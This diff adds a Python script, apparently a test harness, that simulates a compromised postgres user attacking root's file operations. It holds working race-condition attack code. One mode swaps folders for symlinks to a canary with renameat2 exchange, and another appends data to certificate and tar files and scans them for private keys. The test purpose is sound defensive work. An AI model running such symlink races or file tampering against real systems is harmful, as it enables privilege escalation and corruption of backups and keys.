@@ -1,0 +1,57 @@
+"""What a compromised `postgres` does while root works in its folders.
+
+attacker.py swap SECONDS CANARY FOLDER…: puts a link to CANARY in the place of each FOLDER as soon as it appears, and the folder back a second later.
+attacker.py spoil SECONDS FOLDER: appends to each file with certificates that appears in FOLDER, once, and looks for private keys in it.
+Prints as JSON what came of it.
+"""
+
+import ctypes
+import json
+import os
+import shutil
+import sys
+import time
+
+AT_FDCWD, EXCHANGE = -100, 2
+library = ctypes.CDLL(None, use_errno=True)
+
+
+def exchange(one, other):
+    return library.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), EXCHANGE) == 0
+
+
+def swap(end, canary, *folders):
+    swapped, links = 0, {folder: f'{folder}.link' for folder in folders}
+    for link in links.values():
+        os.symlink(canary, link)
+    while time.monotonic() < end:
+        for folder, link in links.items():
+            # The call itself is the quickest way to find out whether the folder is there.
+            if exchange(folder, link):
+                swapped += 1
+                time.sleep(1)
+                exchange(folder, link)
+    for link in links.values():
+        # Where root has removed the link meanwhile, the folder is in its place.
+        shutil.rmtree(link) if not os.path.islink(link) else os.unlink(link)
+    return {'swapped': swapped}
+
+
+def spoil(end, folder):
+    spoiled, keys = set(), 0
+    while time.monotonic() < end:
+        for name in ('files.tar', 'certificates.sealed'):
+            try:
+                with open(os.path.join(folder, name), 'r+b') as file:
+                    identity, content = os.fstat(file.fileno()).st_ino, file.read()
+                    keys += b'PRIVATE KEY' in content
+                    if content and identity not in spoiled:
+                        spoiled.add(identity)
+                        file.write(b'planted')
+            except OSError:
+                pass
+    return {'spoiled': len(spoiled), 'keys': keys}
+
+
+attack, seconds, *rest = sys.argv[1:]
+print(json.dumps({'swap': swap, 'spoil': spoil}[attack](time.monotonic() + float(seconds), *rest)))
